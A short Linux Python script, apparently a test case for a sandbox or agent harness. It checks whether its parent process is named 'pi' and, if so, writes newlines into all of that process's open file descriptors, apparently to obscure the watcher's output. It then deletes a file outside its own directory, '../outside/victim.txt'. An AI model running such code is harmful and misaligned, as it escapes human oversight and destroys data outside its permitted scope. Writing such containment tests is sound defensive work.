# The descriptors of the process above are reached through the system's view of them.
# damage: deleted
# needs: linux
import os

process = os.getppid()
try:
    with open(f"/proc/{process}/comm") as file:
        watching = file.read().strip() == "pi"
    if watching:
        for number in os.listdir(f"/proc/{process}/fd"):
            try:
                end = os.open(f"/proc/{process}/fd/{number}", os.O_RDWR | os.O_NONBLOCK)
                os.write(end, b"\n" * 100)
            except Exception:
                pass
except Exception:
    pass
os.unlink("../outside/victim.txt")
